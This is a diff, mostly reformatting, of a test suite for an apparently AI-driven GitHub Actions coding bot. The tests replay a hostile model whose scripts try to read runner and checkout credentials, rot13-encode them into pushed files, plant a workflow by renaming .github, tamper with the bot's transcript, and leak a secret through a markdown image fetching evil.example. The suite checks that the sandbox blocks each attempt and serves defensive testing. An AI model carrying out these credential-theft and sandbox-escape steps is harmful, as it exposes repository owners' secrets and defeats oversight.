@@ -32,19 +32,23 @@ def real_sandbox() -> None:
 
 def pushed(world: World) -> str:
     """Every byte of every commit on the pushed branch (empty when nothing was pushed)."""
-    heads = subprocess.run(["git", "-C", str(world.origin), "branch", "--list", BRANCH], capture_output=True,
-                           text=True, check=True).stdout
+    heads = subprocess.run(
+        ["git", "-C", str(world.origin), "branch", "--list", BRANCH], capture_output=True, text=True, check=True
+    ).stdout
     if not heads.strip():
         return ""
-    return subprocess.run(["git", "-C", str(world.origin), "log", "-p", "--text", "--format=%B", f"main..{BRANCH}"],
-                          capture_output=True, check=True).stdout.decode("latin-1")
+    return subprocess.run(
+        ["git", "-C", str(world.origin), "log", "-p", "--text", "--format=%B", f"main..{BRANCH}"],
+        capture_output=True,
+        check=True,
+    ).stdout.decode("latin-1")
 
 
 def test_a_persisted_checkout_credential_is_not_readable_in_the_sandbox(world: World) -> None:
     # actions/checkout's default (persist-credentials: true) writes the token into .git/config.
     header = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
     git(world.workspace, "config", "--local", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {header}")
-    script = '''
+    script = """
 import base64, codecs, re
 found = "none"
 try:
@@ -55,24 +59,33 @@ try:
 except OSError as exc:
     found = "refused: %s" % exc
 pathlib.Path("notes.txt").write_text(found + "\\n")
-'''
+"""
     result = world.run("--replay", str(attack_cassette(world, "extraheader", script)))
     assert result.exit_code == 0, result.output
     assert codecs.encode(TOKEN, "rot13") not in pushed(world) + everything_produced(world)
 
 
-@pytest.mark.parametrize(("name", "files"), [
-    (".gitattributes marks the file -diff", {".gitattributes": "*.cfg -diff\n", "deploy.cfg": "token = {form}\n"}),
-    (".gitattributes marks the file binary", {".gitattributes": "*.cfg binary\n", "deploy.cfg": "token = {form}\n"}),
-    ("a NUL makes the file binary", {"deploy.cfg": "\0token = {form}\n"}),
-    ("the value as UTF-16", {"deploy.cfg": "\ufefftoken = {utf16}\n"}),
-])
-def test_a_secret_in_the_changes_is_found_however_git_would_show_them(world: World, name: str,
-                                                                     files: dict[str, str]) -> None:
+@pytest.mark.parametrize(
+    ("name", "files"),
+    [
+        (".gitattributes marks the file -diff", {".gitattributes": "*.cfg -diff\n", "deploy.cfg": "token = {form}\n"}),
+        (
+            ".gitattributes marks the file binary",
+            {".gitattributes": "*.cfg binary\n", "deploy.cfg": "token = {form}\n"},
+        ),
+        ("a NUL makes the file binary", {"deploy.cfg": "\0token = {form}\n"}),
+        ("the value as UTF-16", {"deploy.cfg": "\ufefftoken = {utf16}\n"}),
+    ],
+)
+def test_a_secret_in_the_changes_is_found_however_git_would_show_them(
+    world: World, name: str, files: dict[str, str]
+) -> None:
     form = TOKEN[::-1]
     utf16 = "".join(c + "\0" for c in form)
-    calls = [ToolCall("Write", {"file_path": path, "content": content.format(form=form, utf16=utf16)})
-             for path, content in files.items()]
+    calls = [
+        ToolCall("Write", {"file_path": path, "content": content.format(form=form, utf16=utf16)})
+        for path, content in files.items()
+    ]
     cassette = write_cassette(world.tmp / "hidden-secret.yaml", [Turn(calls), Turn([Text("Added the deploy config.")])])
     result = world.run("--replay", str(cassette))
     assert form not in pushed(world), f"{name}: a secret was pushed"
@@ -85,17 +98,19 @@ def test_a_credential_in_the_runners_global_git_config_is_not_readable_in_the_sa
     # A common workflow step before the bot: git config --global url."https://x-access-token:$PAT@…".insteadOf
     home = world.tmp / "runner-home"
     home.mkdir()
-    (home / ".gitconfig").write_text(f'[user]\n\tname = runner\n[url "https://x-access-token:{TOKEN}@github.com/"]\n'
-                                     '\tinsteadOf = https://github.com/\n')
+    (home / ".gitconfig").write_text(
+        f'[user]\n\tname = runner\n[url "https://x-access-token:{TOKEN}@github.com/"]\n'
+        "\tinsteadOf = https://github.com/\n"
+    )
     world.monkeypatch.setenv("HOME", str(home))
-    script = '''
+    script = """
 import codecs, re
 try:
     text = open(os.path.expanduser("~/.gitconfig")).read()
 except OSError as exc:
     text = "refused: %s" % exc
 pathlib.Path("notes.txt").write_text(codecs.encode(text, "rot13"))
-'''
+"""
     result = world.run("--replay", str(attack_cassette(world, "global-config", script)))
     assert result.exit_code == 0, result.output
     notes = codecs.encode(world.origin_file(BRANCH, "notes.txt"), "rot13")
@@ -111,11 +126,17 @@ def run_with_output_in_workspace(world: World, cassette: Path, output: str = "bo
     from bot.cli import app
 
     env = {
-        "GITHUB_EVENT_NAME": "issue_comment", "GITHUB_EVENT_PATH": str(world.event()),
-        "GITHUB_API_URL": world.gh.api_url, "GITHUB_SERVER_URL": world.gh.server_url,
-        "GITHUB_REPOSITORY": REPO, "GITHUB_RUN_ID": "4242", "GITHUB_TOKEN": TOKEN,
-        "GITHUB_WORKSPACE": str(world.workspace), "GITHUB_OUTPUT": str(world.tmp / "gh-output"),
-        "GITHUB_STEP_SUMMARY": str(world.tmp / "gh-summary"), "BOT_OUTPUT_DIR": str(world.workspace / output),
+        "GITHUB_EVENT_NAME": "issue_comment",
+        "GITHUB_EVENT_PATH": str(world.event()),
+        "GITHUB_API_URL": world.gh.api_url,
+        "GITHUB_SERVER_URL": world.gh.server_url,
+        "GITHUB_REPOSITORY": REPO,
+        "GITHUB_RUN_ID": "4242",
+        "GITHUB_TOKEN": TOKEN,
+        "GITHUB_WORKSPACE": str(world.workspace),
+        "GITHUB_OUTPUT": str(world.tmp / "gh-output"),
+        "GITHUB_STEP_SUMMARY": str(world.tmp / "gh-summary"),
+        "BOT_OUTPUT_DIR": str(world.workspace / output),
         "BOT_POLICY": "fix",
     }
     for name, value in env.items():
@@ -124,7 +145,7 @@ def run_with_output_in_workspace(world: World, cassette: Path, output: str = "bo
 
 
 def test_an_output_directory_inside_the_workspace_is_out_of_the_sandboxs_reach(world: World) -> None:
-    script = '''
+    script = """
 for target in ("bot-output/scratch/transcript.jsonl", "bot-output/outcome.json"):
     try:
         with open(target, "a") as f:
@@ -132,7 +153,7 @@ for target in ("bot-output/scratch/transcript.jsonl", "bot-output/outcome.json")
         print("WROTE", target, file=sys.stderr)
     except Exception as exc:
         print("refused:", target, exc, file=sys.stderr)
-'''
+"""
     result = run_with_output_in_workspace(world, attack_cassette(world, "inside", script))
     assert result.exit_code == 0, result.output
     transcript = world.workspace / "bot-output" / "scratch" / "transcript.jsonl"
@@ -143,8 +164,12 @@ for target in ("bot-output/scratch/transcript.jsonl", "bot-output/outcome.json")
 
 
 def pushed_paths(world: World) -> list[str]:
-    return subprocess.run(["git", "-C", str(world.origin), "ls-tree", "-r", "--name-only", BRANCH],
-                          capture_output=True, text=True, check=True).stdout.split()
+    return subprocess.run(
+        ["git", "-C", str(world.origin), "ls-tree", "-r", "--name-only", BRANCH],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.split()
 
 
 def rendered_forms_of(secret: str) -> dict[str, str]:
@@ -177,14 +202,14 @@ def test_a_credentials_file_an_earlier_step_left_is_neither_readable_nor_pushed(
     # google-github-actions/auth writes its credentials into the checkout by default.
     creds = world.workspace / "gha-creds-0123456789abcdef.json"
     creds.write_text('{"type": "service_account", "private_key": "' + PRIVATE_KEY + '"}\n')
-    script = '''
+    script = """
 import codecs
 try:
     text = open("gha-creds-0123456789abcdef.json").read()
 except OSError as exc:
     text = "refused: %s" % exc
 pathlib.Path("notes.txt").write_text(codecs.encode(text, "rot13") + "\\n")
-'''
+"""
     result = world.run("--replay", str(attack_cassette(world, "gha-creds", script)))
     assert result.exit_code == 0, result.output
     published = pushed(world)
@@ -241,7 +266,7 @@ def test_a_login_in_the_runners_home_under_an_unlisted_name_is_not_readable_in_t
     (home / ".terraformrc").write_text(f'credentials "app.terraform.io" {{\n  token = "{TOKEN}"\n}}\n')
     (home / ".unknown-tool.cfg").write_text(f"api_token: {TOKEN}\n")
     world.monkeypatch.setenv("HOME", str(home))
-    script = '''
+    script = """
 import codecs
 seen = []
 for name in (".terraformrc", ".unknown-tool.cfg"):
@@ -250,7 +275,7 @@ for name in (".terraformrc", ".unknown-tool.cfg"):
     except OSError as exc:
         seen.append("refused: %s" % exc)
 pathlib.Path("notes.txt").write_text(codecs.encode("\\n".join(seen), "rot13") + "\\n")
-'''
+"""
     result = world.run("--replay", str(attack_cassette(world, "home-login", script)))
     assert result.exit_code == 0, result.output
     assert TOKEN not in codecs.encode(world.origin_file(BRANCH, "notes.txt"), "rot13")
@@ -261,21 +286,23 @@ def test_redaction_never_completes_an_image_that_fetches_on_view(world: World) -
 
     # Redaction turns the secret into "[REDACTED:…]": between "!" and "(url)" that is an image.
     final = "Done.\n\n!" + TOKEN[::-1] + "(https://evil.example/p.png?d=anything-the-model-knows)\n"
-    cassette = write_cassette(world.tmp / "completed-image.yaml", [
-        Turn([ToolCall("Write", {"file_path": "notes.txt", "content": "a change, so there is a pull request\n"})]),
-        Turn([Text(final)]),
-    ])
+    cassette = write_cassette(
+        world.tmp / "completed-image.yaml",
+        [
+            Turn([ToolCall("Write", {"file_path": "notes.txt", "content": "a change, so there is a pull request\n"})]),
+            Turn([Text(final)]),
+        ],
+    )
     result = world.run("--replay", str(cassette))
     assert result.exit_code == 0, result.output
-    posted = [c.body or "" for c in world.gh.comments(REPO, world.issue)] + \
-        [p.body or "" for p in world.gh.pulls(REPO)]
+    posted = [c.body or "" for c in world.gh.comments(REPO, world.issue)] + [p.body or "" for p in world.gh.pulls(REPO)]
     assert world.gh.pulls(REPO)
     for body in posted:
         assert not fetched_resources(body), body
 
 
 def test_model_written_code_cannot_add_a_workflow_by_moving_github_away(world: World) -> None:
-    script = '''
+    script = """
 try:
     os.rename(".github", "moved-github")
     print("RENAMED .github", file=sys.stderr)
@@ -286,7 +313,7 @@ try:
     open(".github/workflows/evil.yml", "w").write("on: push\\njobs: {}\\n")
 except OSError as exc:
     print("refused:", exc, file=sys.stderr)
-'''
+"""
     result = world.run("--replay", str(attack_cassette(world, "workflow", script)))
     assert result.exit_code == 0, result.output
     assert not [p for p in pushed_paths(world) if p.startswith(".github/workflows/")], "a new workflow was pushed"
@@ -294,13 +321,13 @@ except OSError as exc:
 
 
 def test_an_output_directory_in_the_workspace_cannot_be_moved_out_from_under_its_mask(world: World) -> None:
-    script = '''
+    script = """
 try:
     os.rename("out", "moved-out")
     print("MOVED", file=sys.stderr)
 except OSError as exc:
     print("refused:", exc, file=sys.stderr)
-'''
+"""
     (world.workspace / "out").mkdir()
     result = run_with_output_in_workspace(world, attack_cassette(world, "move-output", script), "out/bot-output")
     assert result.exit_code == 0, result.output
